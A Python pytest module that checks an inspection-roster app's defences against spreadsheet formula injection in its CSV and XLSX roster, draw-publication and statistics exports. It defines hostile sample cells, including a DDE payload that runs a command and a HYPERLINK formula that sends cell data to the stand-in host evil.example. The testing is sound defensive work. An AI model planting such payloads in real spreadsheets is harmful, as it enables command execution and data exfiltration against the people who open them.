"""Spreadsheets that attack the clerk (issue 13 §3): formula-like text from a roster, a template or a bundle is
written by every export as inert text — CSV behind an apostrophe, XLSX as an explicit string cell — and the
import keeps the text as it was typed. The hostile cells are planted through the real import paths."""

import csv
import dataclasses
import zipfile
from datetime import date

import openpyxl
import pytest
from sqlalchemy import select

from inspector_app.core.roster.columns import HEADERS
from inspector_app.core.roster.export import export_roster
from inspector_app.core.roster.importer import import_roster
from inspector_app.core.spreadsheet_text import csv_cell, is_formula_like, unquote
from inspector_app.core.storage.models import Enterprise
from inspector_app.core.supervision import assignments, draw, statistics
from inspector_app.core.supervision.draw_rules import load_rules
from inspector_app.documents import statistics_report as statistics_export
from tests.core.roster_io_helpers import row, second_enterprise
from tests.core.test_draw import ON, SEED, make

CALC = "=cmd|' /C calc'!A0"
LINK = '=HYPERLINK("http://evil.example/?q="&B2,"查看")'
HOSTILE = [CALC, LINK, "+86 21 5700 1234", "-1+2", "@SUM(1,1)", "\t=1+1", "＝1+1", " =2+2"]


def _write_csv(path, rows):
    with path.open("w", encoding="utf-8-sig", newline="") as f:
        w = csv.DictWriter(f, fieldnames=list(rows[0]))
        w.writeheader()
        w.writerows(rows)
    return path


def _xlsx_cells(path):
    """{text: data_type} of every cell, and whether any <f> (formula) element is in the sheet XML."""
    wb = openpyxl.load_workbook(path)
    cells = {c.value: c.data_type for ws in wb.worksheets for r in ws.iter_rows() for c in r if c.value is not None}
    with zipfile.ZipFile(path) as z:
        formulas = any(
            b"<f>" in z.read(n) or b"<f " in z.read(n) for n in z.namelist() if n.startswith("xl/worksheets")
        )
    return cells, formulas


def test_rules_follow_owasp():
    for text in HOSTILE:
        assert is_formula_like(text), text
        assert csv_cell(text) == "'" + text
        assert unquote(csv_cell(text)) == text
    for text in ("上海申华", "021-57001234", "'quoted", "a=b", "", "（沪）XK16"):
        assert not is_formula_like(text)
        assert csv_cell(text) == text and unquote(text) == text
    assert csv_cell(-5) == -5 and csv_cell(None) == "" and csv_cell(date(2022, 3, 1)) == "2022-03-01"


@pytest.fixture
def planted(db, tmp_path):
    """A roster whose name, phone, contact and address cells start with formula triggers, imported for real."""
    src = _write_csv(
        tmp_path / "hostile.csv",
        [row(**{"企业名称": CALC, "联系电话": LINK, "联系人": "@admin", "住所": "-上海"}), second_enterprise()],
    )
    report = import_roster(db, src)
    assert report.written and not report.errors
    return db


def test_import_keeps_the_text_as_typed(planted):
    with planted.session() as s:
        e = s.scalars(select(Enterprise).where(Enterprise.name == CALC)).one()
        assert (e.phone, e.contact, e.address) == (LINK, "@admin", "-上海")


def test_roster_csv_export_is_inert_and_imports_back(planted, tmp_path, db_path):
    out = export_roster(planted, tmp_path / "out.csv")
    with open(out.path, encoding="utf-8-sig", newline="") as f:
        rows = list(csv.reader(f))
    cells = [c for r in rows[1:] for c in r]
    assert "'" + CALC in cells and "'" + LINK in cells and "'@admin" in cells
    assert not any(c[:1] in "=+-@" for c in cells if c)  # nothing a spreadsheet would evaluate
    assert "021-57001234" in cells  # ordinary text untouched
    # the exported file imports back to the same text (into a fresh database)
    from inspector_app.core.storage.db import open_database

    other = open_database(tmp_path / "other.sqlite3")
    try:
        assert import_roster(other, out.path).written
        with other.session() as s:
            e = s.scalars(select(Enterprise).where(Enterprise.name == CALC)).one()
            assert (e.phone, e.contact) == (LINK, "@admin")
    finally:
        other.close()


def test_roster_xlsx_export_writes_string_cells_not_formulas(planted, tmp_path):
    out = export_roster(planted, tmp_path / "out.xlsx")
    cells, formulas = _xlsx_cells(out.path)
    assert not formulas
    assert cells[CALC] == "s" and cells[LINK] == "s" and cells["@admin"] == "s"
    assert HEADERS[0] in cells
    wb = openpyxl.load_workbook(out.path, read_only=True, data_only=True)  # what a reader sees: the text
    values = {v for r in wb.worksheets[0].iter_rows(values_only=True) for v in r}
    assert CALC in values and LINK in values


def test_draw_publication_csv_and_xlsx_are_inert(db, tmp_path):
    make(db)
    with db.session() as s:  # an enterprise name planted from a roster (or a bundle) before the draw
        for e in s.scalars(select(Enterprise)):
            e.name = CALC + e.uscc[-4:]
    summary = draw.run_draw(db, load_rules(), seed=SEED, year=2022, on=ON)
    out = assignments.export_publication(db, summary.id, tmp_path / "pub.csv", today=ON)
    with out.open(encoding="utf-8-sig", newline="") as f:
        cells = [c for r in csv.reader(f) for c in r]
    named = [c for c in cells if "cmd|" in c]
    assert named and all(c.startswith("'=") for c in named)
    out = assignments.export_publication(db, summary.id, tmp_path / "pub.xlsx", today=ON)
    cells, formulas = _xlsx_cells(out)
    assert not formulas
    assert all(t == "s" for v, t in cells.items() if isinstance(v, str) and "cmd|" in v)


def test_statistics_xlsx_is_inert(planted, tmp_path):
    report = statistics.build_report(planted, *statistics.year_period(2022))
    report = dataclasses.replace(report, district=LINK)  # any text of the report may come from a bundle
    statistics_export.to_xlsx(report, tmp_path / "stats.xlsx")
    cells, formulas = _xlsx_cells(tmp_path / "stats.xlsx")
    assert not formulas
    hostile = [v for v in cells if isinstance(v, str) and v.startswith("=HYPERLINK")]
    assert hostile and all(cells[v] == "s" for v in hostile)
